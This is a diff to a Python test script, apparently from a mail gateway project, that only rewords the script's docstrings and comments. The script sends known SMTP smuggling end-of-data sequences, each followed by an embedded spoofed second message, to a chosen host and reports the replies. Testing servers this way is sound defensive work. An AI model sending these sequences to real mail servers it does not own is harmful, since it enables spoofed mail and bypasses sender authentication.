@@ -1,8 +1,8 @@
 # SPDX-FileCopyrightText: 2026 mailgate contributors
 # SPDX-License-Identifier: GPL-3.0-or-later
-"""The published forms of SMTP smuggling: sequences that one server takes for the end of a message and another does not.
+"""Published SMTP smuggling sequences: end-of-data for one server, ordinary content for another.
 
-python3 forms.py HOST PORT RECIPIENT      sends each of them, and prints the answers; needs nothing but Python.
+python3 forms.py HOST PORT RECIPIENT      sends each of them and prints the replies; needs only Python.
 """
 
 from __future__ import annotations
@@ -10,7 +10,7 @@ from __future__ import annotations
 import socket
 import sys
 
-# CVE-2023-51764, -51765, -51766 and those found after them (Exim, aiosmtpd, Haraka, proxies).
+# CVE-2023-51764, -51765, -51766 and later findings (Exim, aiosmtpd, Haraka, proxies).
 ENDS = (
     b"\n.\n", b"\n.\r\n", b"\r\n.\n", b"\r.\r", b"\r.\r\n", b"\r\n.\r", b"\n.\r", b"\r.\n", b"\r\n\0.\r\n",
     b"\0\r\n.\n", b"\r\r\n.\r\r\n", b"\r\n.\r\r\n", b"\r\n.\0\r\n", b"\x85.\x85",
@@ -19,7 +19,7 @@ ENDS = (
 
 
 def smuggled(recipient: str, number: int) -> bytes:
-    """The second message, that must never become one."""
+    """Return the embedded second message, which no server may accept as a message."""
     return (
         f"MAIL FROM:<evil@sender.example>\r\nRCPT TO:<{recipient}>\r\nDATA\r\n"
         f"Subject: smuggled {number}\r\n\r\nsmuggled\r\n"
@@ -27,7 +27,7 @@ def smuggled(recipient: str, number: int) -> bytes:
 
 
 def send(host: str, port: int, recipient: str, number: int, end: bytes) -> str:
-    """Send one form; the answer to the message."""
+    """Send one form; return the reply to the message."""
     with socket.create_connection((host, port), 30) as connection:
         stream = connection.makefile("rb")
 
@@ -48,11 +48,11 @@ def send(host: str, port: int, recipient: str, number: int, end: bytes) -> str:
         answer = reply()
         connection.sendall(b"QUIT\r\n")
         rest = stream.read().decode("ascii", "replace").splitlines()
-        return answer if len(rest) <= 1 else f"{answer}, and more: {rest}"
+        return answer if len(rest) <= 1 else f"{answer}, then {rest}"
 
 
 def main() -> None:
-    """Send all."""
+    """Send all forms and print the replies."""
     host, port, recipient = sys.argv[1], int(sys.argv[2]), sys.argv[3]
     for number, end in enumerate(ENDS):
         print(f"{number:2} {end!r:22} {send(host, port, recipient, number, end)}")
